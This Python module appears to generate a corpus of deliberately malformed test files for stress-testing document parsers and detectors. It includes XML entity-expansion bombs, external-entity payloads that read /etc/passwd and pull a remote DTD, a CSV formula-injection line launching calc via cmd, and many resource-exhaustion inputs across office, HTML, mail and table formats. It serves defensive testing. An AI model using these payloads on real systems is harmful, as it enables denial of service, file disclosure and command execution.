"""Texts made by hand to harm: office files of XML, markup, mail, tables, trees, configurations that include themselves, and what is hard for
the detectors. Yields (kind, path, bytes)."""
from seeds import stored

KIB, MIB = 1 << 10, 1 << 20
PERSON = "Ada Example,ada.example@cards-quillfeather.example,07700 900123"


def laughs(word="&k;", ten=10):
    return '<!DOCTYPE a [<!ENTITY a "ha">' + "".join(f'<!ENTITY {chr(98 + at)} "{("&" + chr(97 + at) + ";") * ten}">' for at in range(10)) + "]>", word


OUTSIDE = '<!DOCTYPE a [<!ENTITY k SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://127.0.0.1:9/x.dtd">%p;]>'
QUADRATIC = '<!DOCTYPE a [<!ENTITY k "' + "ha" * 50_000 + '">]>'
SPREAD = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
WORD = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
KINDS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def relations(*rows):
    return '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' + "".join(
        f'<Relationship Id="rId{at + 1}" Type="{KINDS}{kind}" Target="{target}"/>' for at, (kind, target) in enumerate(rows)) + "</Relationships>"


def package(*members):
    return stored([(name, body.encode() if isinstance(body, str) else body) for name, body in members])


def xlsx(sheet="", strings="", before="", cells=None, workbook=None, styles="", more=()):
    cells = cells if cells is not None else '<row r="1"><c r="A1" t="s"><v>0</v></c><c r="B1" t="inlineStr"><is><t>Ada Example</t></is></c></row>'
    return package(("[Content_Types].xml", "<Types/>"), ("_rels/.rels", relations(("officeDocument", "xl/workbook.xml"))),
                   ("xl/workbook.xml", workbook or f'<workbook {SPREAD}><sheets><sheet name="List" sheetId="1" r:id="rId1"/></sheets></workbook>'),
                   ("xl/_rels/workbook.xml.rels", relations(("worksheet", "worksheets/sheet1.xml"), ("sharedStrings", "sharedStrings.xml"), ("styles", "styles.xml"))),
                   ("xl/worksheets/sheet1.xml", f"{before}<worksheet {SPREAD}>{sheet}<sheetData>{cells}</sheetData></worksheet>"),
                   ("xl/sharedStrings.xml", strings or f"<sst {SPREAD}><si><t>name</t></si></sst>"), ("xl/styles.xml", styles or f"<styleSheet {SPREAD}/>"), *more)


def docx(body, before="", more=(), wrap=True):
    whole = f"{before}<w:document {WORD}><w:body>{body}</w:body></w:document>" if wrap else body
    return package(("[Content_Types].xml", "<Types/>"), ("_rels/.rels", relations(("officeDocument", "word/document.xml"))), ("word/document.xml", whole), *more)


def run(text):
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


ODF = 'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'


def odf(kind, body, before=""):
    return package(("mimetype", "application/vnd.oasis.opendocument." + kind), ("content.xml", f"{before}<office:document-content {ODF}><office:body>{body}</office:body></office:document-content>"))


def ods(rows):
    return odf("spreadsheet", f'<office:spreadsheet><table:table table:name="List">{rows}</table:table></office:spreadsheet>')


def office(small):
    x = "document/xlsx"
    bomb = laughs()[0]
    yield x, "dimension-of-all.xlsx", xlsx('<dimension ref="A1:XFD1048576"/>')
    yield x, "corners.xlsx", xlsx(cells='<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>Ada Example</t></is></c></row>')
    yield x, "beyond.xlsx", xlsx(cells='<row r="4294967295"><c r="ZZZZZZZZZ99999999999"><v>1</v></c></row><row r="-1"><c r="A-1"><v>1</v></c></row><row r="18446744073709551616"><c r="1A"><v>NaN</v></c></row>')
    yield x, "strings-4-billion.xlsx", xlsx(strings=f'<sst {SPREAD} count="4294967295" uniqueCount="18446744073709551615"><si><t>a</t></si></sst>')
    yield x, "strings-empty.xlsx", xlsx(strings=f"<sst {SPREAD}>" + "<si/>" * 1_000_000 + "</sst>")
    yield x, "string-of-64-MiB.xlsx", xlsx(strings=f"<sst {SPREAD}><si><t>" + "Ada Example " * (64 * MIB // 12) + "</t></si></sst>", cells="".join(f'<row r="{at}"><c r="A{at}" t="s"><v>0</v></c></row>' for at in range(1, 3000)))
    yield x, "string-used-a-million-times.xlsx", xlsx(strings=f"<sst {SPREAD}><si><t>" + "Ada Example " * 2700 + "</t></si></sst>", cells="".join(f'<row r="{at}">' + f'<c t="s"><v>0</v></c>' * 20 + "</row>" for at in range(1, 5_000 if small else 50_000)))
    yield x, "rich-text.xlsx", xlsx(strings=f"<sst {SPREAD}><si>" + "<r><t>A</t></r>" * 500_000 + "</si></sst>")
    yield x, "laughs.xlsx", xlsx(before=bomb, cells='<row r="1"><c r="A1" t="inlineStr"><is><t>&k;</t></is></c></row>')
    yield x, "outside.xlsx", xlsx(before=OUTSIDE, cells='<row r="1"><c r="A1" t="inlineStr"><is><t>&k;</t></is></c></row>')
    yield x, "columns-of-all.xlsx", xlsx("<cols>" + '<col min="1" max="4294967295" hidden="1"/><col min="0" max="16384" hidden="1"/>' * 50_000 + "</cols>")
    yield x, "merged.xlsx", xlsx("<mergeCells>" + '<mergeCell ref="A1:XFD1048576"/>' * 100_000 + "</mergeCells>")
    yield x, "conditions.xlsx", xlsx('<conditionalFormatting sqref="' + "A1:XFD1048576 " * 50_000 + '"><cfRule type="expression" dxfId="0" priority="1"><formula>1</formula></cfRule></conditionalFormatting>' * 20)
    yield x, "deep.xlsx", xlsx("<a>" * 300_000)
    yield x, "cell-deep.xlsx", xlsx(cells='<row><c t="inlineStr"><is>' + "<r>" * 300_000)
    yield x, "names.xlsx", xlsx(workbook=f'<workbook {SPREAD}><sheets><sheet name="List" sheetId="1" r:id="rId1"/></sheets><definedNames>' + "".join(f'<definedName name="n{at}">List!$A$1:$XFD$1048576</definedName>' for at in range(100_000)) + "</definedNames></workbook>")
    yield x, "sheets-60000.xlsx", xlsx(workbook=f"<workbook {SPREAD}><sheets>" + "".join(f'<sheet name="s{at}" sheetId="{at}" state="hidden" r:id="rId1"/>' for at in range(60_000)) + "</sheets></workbook>")
    yield x, "itself.xlsx", xlsx(more=[("xl/worksheets/_rels/sheet1.xml.rels", relations(*[("drawing", "../worksheets/sheet1.xml"), ("comments", "../worksheets/sheet1.xml"), ("worksheet", "sheet1.xml")] * 300)), ("xl/drawings/_rels/sheet1.xml.rels", relations(("drawing", "sheet1.xml")))])
    yield x, "styles.xlsx", xlsx(styles=f'<styleSheet {SPREAD}><cellXfs count="4294967295">' + '<xf fontId="99999999" fillId="-1" numFmtId="4294967295"/>' * 200_000 + "</cellXfs></styleSheet>")
    yield x, "formulas.xlsx", xlsx(cells="".join(f'<row r="{at}"><c r="A{at}"><f t="shared" ref="A1:XFD1048576" si="{at}">' + "(" * 3000 + f"A{at + 1}</f><v>1</v></c></row>" for at in range(1, 300)))
    yield x, "hidden-far.xlsx", xlsx(cells="".join(f'<row r="{at * 1000 + 1}" hidden="1"><c r="XFD{at * 1000 + 1}" t="inlineStr"><is><t>Ada Example</t></is></c></row>' for at in range(1040)))
    d = "document/docx"
    yield d, "tables-deep.docx", docx("<w:tbl><w:tr><w:tc>" * 20_000 + run("Ada Example") + "</w:tc></w:tr></w:tbl>" * 20_000)
    yield d, "boxes-deep.docx", docx("<w:p><w:r><w:txbxContent>" * 20_000 + run("Ada Example"))
    yield d, "open-300000.docx", docx("<w:p>" * 300_000)
    yield d, "laughs.docx", docx(run("&k;"), before=bomb)
    yield d, "quadratic.docx", docx(run("&k;" * 50_000), before=QUADRATIC)
    yield d, "outside.docx", docx(run("&k;"), before=OUTSIDE)
    yield d, "cells-million.docx", docx("<w:tbl><w:tr>" + "<w:tc/>" * 1_000_000 + "</w:tr></w:tbl>")
    yield d, "spans.docx", docx("<w:tbl>" + ('<w:tr><w:tc><w:tcPr><w:gridSpan w:val="2147483647"/><w:vMerge/></w:tcPr>' + run("Ada Example") + "</w:tc></w:tr>") * 20_000 + "</w:tbl>")
    yield d, "bomb.docx", docx(" " * ((20 if small else 600) * MIB), wrap=False)
    yield d, "attributes.docx", docx("<w:p " + " ".join(f'a{at}="x"' for at in range(200_000)) + "/>")
    yield d, "same-attribute.docx", docx("<w:p " + 'a="x" ' * 300_000 + "/>")
    yield d, "namespaces.docx", docx("".join(f'<w:p xmlns:a{at}="b{at}">' for at in range(20_000)))
    inner = docx(run("Ada Example"))
    for _ in range(20):
        inner = docx(run("x"), more=[("word/embeddings/a.docx", inner)])
    yield d, "in-itself-20.docx", inner
    yield d, "changes.docx", docx("".join(f'<w:ins w:id="{at}"><w:del w:id="{at}">' for at in range(50_000)))
    yield "document/pptx", "laughs.pptx", package(("[Content_Types].xml", "<Types/>"), ("ppt/presentation.xml", "<p/>"), ("ppt/slides/slide1.xml", bomb + "<a:t xmlns:a='x'>&k;</a:t>"), ("ppt/slides/slide2.xml", "<a:p>" * 300_000))
    yield "document/pptx", "slides-20000.pptx", package(("[Content_Types].xml", "<Types/>"), ("ppt/presentation.xml", "<p/>"), *((f"ppt/slides/slide{at}.xml", "<a/>") for at in range(20_000)))
    s = "document/ods"
    cell = '<table:table-cell table:number-columns-repeated="{0}"><text:p>Ada Example</text:p></table:table-cell>'
    for times in ("16384", "2147483647", "18446744073709551616", "-1"):
        yield s, f"repeated-{times}.ods", ods(f'<table:table-row table:number-rows-repeated="{times}">' + cell.format(times) * 3 + "</table:table-row>" + "<table:table-row>" + cell.format(1) + "</table:table-row>")
    yield s, "rows-repeated-often.ods", ods(('<table:table-row table:number-rows-repeated="1048576">' + cell.format(1024) + "</table:table-row>") * 2000)
    yield s, "empty-repeated.ods", ods('<table:table-row table:number-rows-repeated="1048575"><table:table-cell table:number-columns-repeated="16384"/></table:table-row><table:table-row>' + cell.format(1) + "</table:table-row>")
    yield s, "spaces.ods", ods('<table:table-row><table:table-cell><text:p>a<text:s text:c="4294967295"/>b</text:p></table:table-cell></table:table-row>')
    yield s, "groups-deep.ods", ods("<table:table-row-group>" * 100_000)
    yield "document/odt", "spaces.odt", odf("text", '<office:text><text:p>a<text:s text:c="2147483647"/>b<text:tab/></text:p></office:text>')
    yield "document/odt", "lists-deep.odt", odf("text", "<office:text>" + "<text:list><text:list-item>" * 50_000 + "<text:p>Ada Example</text:p>")
    yield "document/odt", "laughs.odt", odf("text", "<office:text><text:p>&k;</text:p></office:text>", before=bomb)


def markup():
    h = "document/html"
    for name, piece in {"div": "<div>", "open-a-b": "<a><b>", "tables": "<table>", "cells": "<table><tr><td>", "font": "<font><p>", "formatting": "<b><i><u><s><p>", "select": "<select><option>", "svg": "<svg><g>", "math": "<math><mi>",
                        "template": "<template>", "lists": "<ul><li>", "ruby": "<ruby><rt>", "comments": "<!--", "frames": "<iframe srcdoc='<p>'>", "misnested": "<b><p></b><i></p>", "objects": "<object><param>", "noscript": "<noscript><p>"}.items():
        yield h, f"deep-{name}.html", ("<html><body>" + piece * (300_000 // len(piece)) + PERSON).encode()
    yield h, "hidden-deep.html", ("<html>" + '<div style="display:none">' * 20_000 + PERSON).encode()
    yield h, "styles.html", ("<html><style>" + ".a{display:none}.a .b>.c~.d{color:#fff}" * 20_000 + "</style>" + "<p class='a b c d e'>Ada</p>" * 5000).encode()
    yield h, "entities.html", ("<html>" + "&#x41;&#0;&#1114112;&#99999999999;&bogus;&amp" * 40_000).encode()
    yield h, "attributes.html", ("<html><p " + " ".join(f"a{at}='&amp;{at}'" for at in range(100_000)) + ">").encode()
    yield h, "addresses-of-data.html", ("<html>" + "<img src='data:text/csv;base64,bmFtZSxlbWFpbAphLGFAZXhhbXBsZS5vcmcK'>" * 20_000).encode()
    yield h, "spans.html", ("<html><table>" + "<tr><td colspan=2147483647 rowspan=65535>Ada Example</td><td colspan=-1>x</td></tr>" * 5000).encode()
    nested = "a note"
    for _ in range(12):
        import base64
        nested = "<html><a href='data:text/html;base64," + base64.b64encode(nested.encode()).decode() + "'>"
    yield h, "data-in-data.html", nested.encode()
    for name, body in {"laughs": laughs()[0] + "<a>&k;</a>", "quadratic": QUADRATIC + "<a>" + "&k;" * 50_000 + "</a>", "outside": OUTSIDE + "<a>&k;</a>", "deep": "<a>" * 1_000_000, "deep-closed": "<a>" * 100_000 + "x" + "</a>" * 100_000,
                       "attributes": "<a " + " ".join(f'b{at}="{at}"' for at in range(300_000)) + "/>", "same-children": "<a>" + "<b/>" * 1_000_000 + "</a>", "attribute-long": f'<a b="{"x" * 10 * MIB}"/>', "cdata": "<a>" + "<![CDATA[<a>]]>" * 200_000 + "</a>",
                       "comment-open": "<a><!--" + "-" * MIB, "instructions": "<?xml version='1.0'?>" * 100_000 + "<a/>", "names-long": "<" + "a" * 5 * MIB + "/>", "entity-of-itself": '<!DOCTYPE a [<!ENTITY k "&k;">]><a>&k;</a>'}.items():
        yield "config/xml", f"{name}.xml", body.encode()
    yield "document/image", "laughs.svg", (laughs()[0] + "<svg xmlns='http://www.w3.org/2000/svg'><text>&k;</text></svg>").encode()
    yield "document/image", "uses.svg", ("<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'>" + "".join(f"<g id='g{at}'><use xlink:href='#g{at + 1}'/><use xlink:href='#g{at + 1}'/></g>" for at in range(60)) + "</svg>").encode()
    plist = '<?xml version="1.0"?><plist version="1.0">{}</plist>'
    yield "config/plist", "deep.plist", plist.format("<array>" * 200_000).encode()
    yield "config/plist", "keys.plist", plist.format("<dict>" + "<key>a</key><dict>" * 100_000).encode()
    yield "config/plist", "laughs.plist", (laughs()[0] + plist.format("<string>&k;</string>")).encode()
    r = "document/rtf"
    for name, piece in {"groups": "{", "tables": "\\intbl\\cell\\row ", "binary": "\\bin2147483647 ", "unicode": "\\u-1?\\uc99999 ", "fields": "{\\field{\\*\\fldinst ", "objects": "{\\object\\objdata 0105", "pictures": "{\\pict\\wmetafile8 ", "hex": "\\'zz\\'4", "lists": "{\\listtext ", "fonts": "{\\fonttbl{\\f0 "}.items():
        yield r, f"{name}.rtf", ("{\\rtf1\\ansi " + piece * (1_500_000 // len(piece)) + PERSON).encode()
    yield r, "number-long.rtf", ("{\\rtf1\\fs" + "9" * MIB + " " + "\\" + "a" * MIB + " x}").encode()


def mails():
    m = "document/mail"
    head = "From: ada@example.org\nTo: ben@example.org\nSubject: Order\nMIME-Version: 1.0\n"
    deep = head
    for at in range(10_000):
        deep += f'Content-Type: multipart/mixed; boundary="b{at}"\n\n--b{at}\n'
    yield m, "multiparts-10000.eml", (deep + "Content-Type: text/plain\n\n" + PERSON).encode()
    yield m, "same-boundary.eml", (head + 'Content-Type: multipart/mixed; boundary="b"\n\n' + '--b\nContent-Type: multipart/mixed; boundary="b"\n\n' * 20_000).encode()
    yield m, "messages-10000.eml", (head + "Content-Type: message/rfc822\n\n" + (head + "Content-Type: message/rfc822\n\n") * 10_000).encode()
    yield m, "parts-100000.eml", (head + 'Content-Type: multipart/mixed; boundary="b"\n\n' + "--b\n\nx\n" * 100_000).encode()
    yield m, "attachments-20000.eml", (head + 'Content-Type: multipart/mixed; boundary="b"\n\n' + '--b\nContent-Type: application/zip; name="a.zip"\nContent-Transfer-Encoding: base64\n\nUEsDBAAA\n' * 20_000).encode()
    yield m, "heads-million.eml", (head + "X-A: b\n" * 500_000 + "\nx").encode()
    yield m, "head-long.eml", (head + "X-A: " + "a" * 5 * MIB + "\n\nx").encode()
    yield m, "folded.eml", (head + "X-A: b\n" + " c\n" * 500_000 + "\nx").encode()
    yield m, "continued.eml", (head + "Content-Type: text/plain; " + "; ".join(f"name*{at}*=%41" for at in range(100_000)) + "\n\nx").encode()
    yield m, "words.eml", (head + "Subject: " + "=?utf-7?B?QUJD?= =?x?Q?=zz?= " * 100_000 + "\n\nx").encode()
    yield m, "addresses.eml", ("From: " + "(" * 200_000 + "\nTo: " + ", ".join(f"a{at}@example.org" for at in range(100_000)) + "\nSubject: " + "<" * 100_000 + "\n\nx").encode()
    yield m, "boundary-empty.eml", (head + 'Content-Type: multipart/mixed; boundary=""\n\n' + "--\n" * 200_000).encode()
    yield m, "boundary-long.eml", (head + f'Content-Type: multipart/mixed; boundary="{"b" * 100_000}"\n\n' + "--bbbb\n" * 100_000).encode()
    yield m, "charset.eml", (head + "Content-Type: text/plain; charset=" + "x" * 100_000 + "\nContent-Transfer-Encoding: " + "quoted-printable " * 1000 + "\n\n" + "=" * MIB).encode()
    yield m, "base64-10-MiB.eml", (head + "Content-Transfer-Encoding: base64\n\n" + "QUJDREVG" * 10 * MIB)[:10 * MIB].encode()
    yield "document/mbox", "messages-200000.mbox", b"From a Mon Jan  1 00:00:00 2024\nSubject: x\n\nx\n" * 100_000
    yield "document/mbox", "froms.mbox", b"From a Mon Jan  1 00:00:00 2024\n" * 200_000
    yield "document/vcard", "cards-deep.vcf", b"BEGIN:VCARD\nVERSION:3.0\n" * 100_000
    yield "document/vcard", "folded.vcf", b"BEGIN:VCARD\nVERSION:2.1\nNOTE;ENCODING=QUOTED-PRINTABLE:" + b"=41=\n" * 300_000
    yield "document/vcard", "parameters.vcf", b"BEGIN:VCARD\nVERSION:4.0\nTEL" + b";TYPE=home" * 300_000 + b":1\nEND:VCARD\n"
    yield "document/vcard", "photo.vcf", b"BEGIN:VCARD\nVERSION:3.0\nFN:Ada\nPHOTO;ENCODING=b:" + b"QUJD" * MIB + b"\nEND:VCARD\n"


def tables():
    c = "document/csv"
    yield c, "columns-million.csv", ",".join(f"c{at}" for at in range(1_000_000)).encode() + b"\n" + b"1," * 1_000_000
    yield c, "columns-million-names.csv", b"name," * 1_000_000 + b"\n" + b"Ada Example," * 300_000
    yield c, "quote-open-20-MiB.csv", b'name,email\n"' + b"Ada Example,ada@example.org\n" * (20 * MIB // 28)
    yield c, "quotes.csv", b"name,email\n" + b'""""""""",' * MIB
    yield c, "zeros.csv", b"name,email\n" + b"A\0d\0a\0,\0\n" * 300_000
    yield c, "one-row-20-MiB.csv", b"name,email\n" + b"Ada Example;" * (20 * MIB // 12)
    yield c, "returns.csv", b"name,email\r" + b"Ada,a@example.org\r" * 100_000
    yield c, "marks-in-it.csv", b"\xef\xbb\xbfname,email\n" + b"\xef\xbb\xbfAda,\xff\xfea@example.org\n" * 50_000
    yield c, "formulas.csv", b"name,email\n" + b"=cmd|' /C calc'!A1,@SUM(1)\n" * 50_000
    yield "document/sql", "brackets.sql", b"CREATE TABLE t (a text);\nINSERT INTO t VALUES " + b"(" * 3 * MIB
    yield "document/sql", "columns.sql", b"CREATE TABLE t (" + b",".join(b"c%d text" % at for at in range(200_000)) + b");\nINSERT INTO t VALUES (" + b"'Ada'," * 200_000 + b"1);"
    yield "document/sql", "quotes.sql", b"INSERT INTO t VALUES ('" + b"\\''" * MIB
    yield "document/sql", "dollars.sql", b"CREATE TABLE t (a text);\nINSERT INTO t VALUES ($a$" + b"$b$" * MIB
    yield "document/jsonl", "deep.jsonl", (b'{"a":' * 50_000 + b"\n") * 20
    yield "document/jsonl", "one-line.jsonl", b'{"a":1}\n{"name":"' + b"Ada " * 5 * MIB
    yield "document/access_log", "long.log", b'203.0.113.9 - - [01/Jan/2024:00:00:00 +0000] "GET /' + b"a=%41%zz&" * MIB + b' HTTP/1.1" 200 12\n'
    yield "document/access_log", "brackets.log", b'203.0.113.9 - - [' * 200_000


def all_evil(small=False):
    yield from office(small)
    for part in (markup, mails, tables):
        yield from part()
